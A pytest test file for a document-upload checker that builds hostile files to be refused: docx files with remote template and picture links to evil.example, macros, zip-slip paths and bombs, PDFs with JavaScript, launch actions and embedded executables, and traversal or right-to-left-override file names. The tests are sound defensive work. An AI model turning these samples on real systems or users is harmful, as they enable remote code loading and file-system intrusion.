"""Hostile and broken files, each made here: what is refused, and that what offices really write is taken."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import pytest
from docx import Document
from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject
from reportlab.pdfgen.canvas import Canvas

from quiz_app.domain.errors import InvalidInput
from quiz_app.domain.initiatives.file_names import LONGEST_NAME, clean_file_name, find_suffix
from quiz_app.domain.initiatives.file_rules import WrongEntryFile, find_kind
from quiz_app.domain.initiatives.rounds import FileKind
from quiz_app.services.entry_files.checking import check_content
from tests.effort import takes_at_most

TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def make_docx() -> bytes:
    """As Word writes it, with a link to a page outside."""
    document = Document()
    document.add_paragraph("Số hóa hồ sơ một cửa")
    document.part.relate_to("https://example.gov.vn", f"{OFFICE}/hyperlink", is_external=True)
    stream = io.BytesIO()
    document.save(stream)
    return stream.getvalue()


def change_docx(changes: dict[str, Callable[[bytes], bytes] | bytes]) -> bytes:
    """A docx with other parts, or more."""
    stream = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(make_docx())) as old, zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            change = changes.pop(name, None)
            content = old.read(name)
            new.writestr(name, change(content) if callable(change) else content if change is None else change)
        for name, content in changes.items():
            assert isinstance(content, bytes)
            new.writestr(name, content)
    return stream.getvalue()


def add_relation(kind: str, target: str) -> Callable[[bytes], bytes]:
    relation = f'<Relationship Id="rId99" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="External"/>'
    return lambda content: content.replace(b"</Relationships>", relation.encode() + b"</Relationships>")


def make_pptx() -> bytes:
    kind = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as package:
        package.writestr(
            "[Content_Types].xml",
            f'<Types xmlns="{TYPES}"><Override PartName="/ppt/presentation.xml" ContentType="{kind}"/></Types>',
        )
        package.writestr("ppt/presentation.xml", "<p/>")
    return stream.getvalue()


def make_pdf() -> bytes:
    stream = io.BytesIO()
    canvas = Canvas(stream)
    canvas.drawString(100, 700, "Sang kien")
    canvas.save()
    return stream.getvalue()


def change_pdf(change: Callable[[PdfWriter], object]) -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(make_pdf())))
    change(writer)
    stream = io.BytesIO()
    writer.write(stream)
    return stream.getvalue()


def hide_in_object_stream(text: bytes, *, filters: bytes = b"/FlateDecode", packed: bytes | None = None) -> bytes:
    """A PDF with an object stream that holds this."""
    packed = zlib.compress(text) if packed is None else packed
    begin = b"9 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter " + filters + b" /Length %d >>\nstream\n" % len(packed)
    return make_pdf().replace(b"xref\n", begin + packed + b"\nendstream\nendobj\nxref\n", 1)


def make_picture(kind: str, size: tuple[int, int] = (40, 30)) -> bytes:
    stream = io.BytesIO()
    Image.new("L", size, 200).save(stream, kind)
    return stream.getvalue()


def make_huge_png(width: int, height: int) -> bytes:
    """The header of a picture that would take gigabytes, with hardly anything behind it."""

    def make_chunk(name: bytes, content: bytes) -> bytes:
        checked = name + content
        return struct.pack(">I", len(content)) + checked + struct.pack(">I", zlib.crc32(checked))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    body = make_chunk(b"IHDR", header) + make_chunk(b"IDAT", zlib.compress(b"\0" * 100)) + make_chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + body


def make_film() -> bytes:
    def box(name: bytes, content: bytes = b"") -> bytes:
        return struct.pack(">I", 8 + len(content)) + name + content

    return box(b"ftyp", b"isom\0\0\2\0") + box(b"moov", b"x" * 50) + box(b"mdat", b"x" * 500)


def make_old_word(*names: str) -> bytes:
    return OLE + b"\0" * 600 + b"".join(name.encode("utf-16-le") + b"\0" * 40 for name in ("WordDocument", *names))


def make_bomb(name: str, size: int) -> bytes:
    return change_docx({name: b"\0" * size})


def make_directory_bomb() -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as package:
        for number in range(6000):
            package.writestr(f"{number}.xml", b"")
    return stream.getvalue()


def write_js(writer: PdfWriter) -> None:
    action = DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1)")}
    )
    writer.root_object[NameObject("/OpenAction")] = action


def attach_inside(writer: PdfWriter) -> None:
    writer.add_attachment("a.exe", b"MZ")


GOOD: list[tuple[str, bytes]] = [
    ("docx", make_docx()),
    ("pptx", make_pptx()),
    ("pdf", make_pdf()),
    ("pdf", hide_in_object_stream(b"1 0 << /Type /Page /Annots [] /JSON 1 >>")),
    # A word in a text is no action.
    ("pdf", make_pdf() + b"% /Javascripts\n"),
    ("doc", make_old_word()),
    ("png", make_picture("PNG")),
    ("jpg", make_picture("JPEG")),
    ("jpeg", make_picture("JPEG")),
    ("mp4", make_film()),
]

MACRO_TYPE = b"application/vnd.ms-word.document.macroEnabled.main+xml"
PLAIN_TYPE = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DTD = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><Types>&b;</Types>'

HOSTILE: list[tuple[str, str, bytes, str]] = [
    ("empty", "pdf", b"", "empty"),
    ("a program", "pdf", b"MZ\x90\0", "program"),
    ("a script of a shell", "doc", b"#!/bin/sh\n", "program"),
    ("a page", "pdf", b"<html><script>alert(1)</script></html>", "not what the name says"),
    ("a PDF by another name", "docx", make_pdf(), "not what the name says"),
    ("a picture by another name", "jpg", make_picture("PNG"), "not what the name says"),
    ("a zip by another name", "docx", make_pptx(), "damaged"),
    ("a docx by another name", "pptx", make_docx(), "damaged"),
    ("docx cut at half", "docx", make_docx()[:9000], "damaged"),
    ("docx with macros", "docx", change_docx({"word/vbaProject.bin": b"x"}), "macros"),
    (
        "docx of the kind with macros", "docx",
        change_docx({"[Content_Types].xml": lambda content: content.replace(PLAIN_TYPE, MACRO_TYPE)}), "macros",
    ),
    ("docx with ActiveX", "docx", change_docx({"word/activeX/activeX1.xml": b"<x/>"}), "macros"),
    (
        "docx with an outside template", "docx",
        change_docx({"word/_rels/settings.xml.rels": add_relation("attachedTemplate", "http://evil.example/t.dotm")(
            f'<Relationships xmlns="{RELATIONS}"></Relationships>'.encode())}),
        "from outside",
    ),
    (
        "docx with an outside picture", "docx",
        change_docx({"word/_rels/document.xml.rels": add_relation("image", "http://evil.example/x.png")}),
        "from outside",
    ),
    (
        "docx with an outside object", "docx",
        change_docx({"word/_rels/document.xml.rels": add_relation("oleObject", "\\\\evil\\share\\x")}),
        "from outside",
    ),
    ("docx with entities", "docx", change_docx({"[Content_Types].xml": DTD}), "damaged"),
    ("docx with a path that leads out", "docx", change_docx({"../../etc/cron.d/x": b"x"}), "damaged"),
    ("docx that is a bomb", "docx", make_bomb("[Content_Types].xml", 5_000_000), "damaged"),
    ("zip of 6,000 parts", "docx", make_directory_bomb(), "damaged"),
    ("docx under a password", "docx", OLE + "EncryptedPackage".encode("utf-16-le"), "password"),
    ("doc with macros", "doc", make_old_word("_VBA_PROJECT"), "macros"),
    ("doc that is an Excel file", "doc", OLE + "Workbook".encode("utf-16-le"), "damaged"),
    ("doc under a password", "doc", make_old_word("EncryptedPackage"), "password"),
    ("pdf cut at half", "pdf", make_pdf()[:600], "cut off"),
    ("pdf with a script", "pdf", change_pdf(write_js), "script"),
    ("pdf with a file inside", "pdf", change_pdf(attach_inside), "hidden"),
    ("pdf under a password", "pdf", change_pdf(lambda writer: writer.encrypt("x", algorithm="RC4-128")), "password"),
    ("pdf that starts a program", "pdf", make_pdf().replace(b"xref\n", b"<</S/Launch/F(x)>>\nxref\n", 1), "script"),
    ("pdf with an escaped name", "pdf", make_pdf().replace(b"xref\n", b"<</S/J#61vaScript>>\nxref\n", 1), "script"),
    ("pdf with a packed script", "pdf", hide_in_object_stream(b"1 0 << /S /JavaScript /JS (x) >>"), "script"),
    ("pdf packed twice", "pdf", hide_in_object_stream(b"", filters=b"[/ASCIIHexDecode /FlateDecode]", packed=b"789c>"),
     "unusual"),
    ("pdf that is a bomb", "pdf", hide_in_object_stream(b"\0" * 9_000_000), "unpacked"),
    ("png of 40,000 × 40,000", "png", make_huge_png(40_000, 40_000), "too large|measures"),
    ("png of 10,000 × 8,000", "png", make_huge_png(10_000, 8_000), "measures"),
    ("png cut at half", "png", make_picture("PNG", (400, 300))[:120], "damaged"),
    ("jpg cut at half", "jpg", make_picture("JPEG", (400, 300))[:-300], "damaged"),
    ("film cut at half", "mp4", make_film()[:-100], "cut off"),
    ("film without contents", "mp4", b"\0\0\0\x10ftypisom\0\0\2\0", "cut off"),
    ("film whose box is endless", "mp4", b"\0\0\0\x08ftyp" + b"\0\0\0\x04free" * 20, "cut off"),
]  # fmt: skip


@pytest.mark.parametrize(("suffix", "content"), GOOD, ids=lambda value: value if isinstance(value, str) else "")
def test_what_offices_write_is_taken(tmp_path: Path, suffix: str, content: bytes) -> None:
    name = f"Minh chứng.{suffix}"
    path = tmp_path / "draft"
    path.write_bytes(content)
    check_content(path, name, find_kind(name, tuple(FileKind)))


@pytest.mark.parametrize(("what", "suffix", "content", "reason"), HOSTILE, ids=[row[0] for row in HOSTILE])
def test_what_is_hostile_or_broken_is_refused_in_words(
    tmp_path: Path, what: str, suffix: str, content: bytes, reason: str
) -> None:
    path = tmp_path / "draft"
    path.write_bytes(content)
    with takes_at_most(seconds=1), pytest.raises(WrongEntryFile) as refusal:
        check_content(path, f"a.{suffix}", FileKind(suffix))
    assert any(part in refusal.value.reason for part in reason.split("|")), f"{what}: {refusal.value.reason}"


def test_a_kind_that_the_round_does_not_take() -> None:
    with pytest.raises(WrongEntryFile) as refusal:
        find_kind("Bảng.docx", (FileKind.PDF, FileKind.PNG))
    assert refusal.value.values == {"kinds": "pdf, png"}


@pytest.mark.parametrize(
    ("name", "cleaned"),
    [
        ("Minh chứng.pdf", "Minh chứng.pdf"),
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("C:\\Users\\An\\Đơn.docx", "Đơn.docx"),
        ("a\x00b\r\n\tc.pdf", "abc.pdf"),
        ("anh\u202egpj.exe", "anhgpj.exe"),
        ("  hai   chỗ  .pdf", "hai chỗ.pdf"),
        ("<script>.pdf", "script.pdf"),
        ("aux.pdf", "_aux.pdf"),
        ("Thu\u031b.pdf", "Thư.pdf"),
        ("ten.pdf. . .", "ten.pdf"),
    ],
)
def test_names_are_made_safe(name: str, cleaned: str) -> None:
    assert clean_file_name(name) == cleaned
    assert clean_file_name(cleaned) == cleaned


@pytest.mark.parametrize("name", ["", ".pdf", "...", "/", "\u200b.pdf", "a/..", "???.pdf"])
def test_what_is_no_name_is_refused(name: str) -> None:
    with pytest.raises(InvalidInput):
        clean_file_name(name)


@pytest.mark.parametrize("name", ["ạ" * 300 + ".pdf", "a." + "b" * 300, "." * 300 + "a.pdf"])
def test_no_name_is_longer_than_it_may_be(name: str) -> None:
    cleaned = clean_file_name(name)
    assert 1 <= len(cleaned) <= LONGEST_NAME
    assert find_suffix("A.B.PDF") == "pdf"
